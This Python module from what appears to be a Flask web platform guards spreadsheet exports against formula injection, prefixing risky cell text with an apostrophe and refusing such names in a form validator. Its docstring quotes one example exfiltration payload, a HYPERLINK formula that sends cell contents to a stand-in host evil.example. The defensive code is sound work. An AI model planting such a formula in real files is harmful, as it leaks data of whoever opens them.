"""Cells the platform writes into CSV and XLSX files: text that a spreadsheet would run as a
formula is written as plain text instead.

A value that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula (or can
become one) in Excel, LibreOffice and Google Sheets; a name such as
`=HYPERLINK("http://evil.example/?"&A1,"klik")` in an export would run when the admin opens it.
Every export writes its text cells through `neutralise` (OWASP's advice: a leading apostrophe).
"""

from flask_babel import gettext as _
from wtforms.validators import ValidationError

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def starts_like_formula(text: str) -> bool:
    """Whether a spreadsheet could read this text as a formula (used to refuse it in names)."""
    return text.startswith(FORMULA_STARTS)


def neutralise(value):
    """The value to write into a cell: text that starts like a formula gets a leading `'`;
    numbers, dates and other text are returned as they are."""
    if isinstance(value, str) and starts_like_formula(value):
        return "'" + value
    return value


class NoFormula:
    """A WTForms validator for names: text that starts like a formula is refused on input, so
    it never reaches a spreadsheet in the first place (exports still neutralise, for older rows)."""

    def __call__(self, form, field):
        if isinstance(field.data, str) and starts_like_formula(field.data):
            raise ValidationError(_("Begin niet met =, +, -, @, een tab of een regelovergang; een spreadsheet "
                                    "leest dat als formule."))
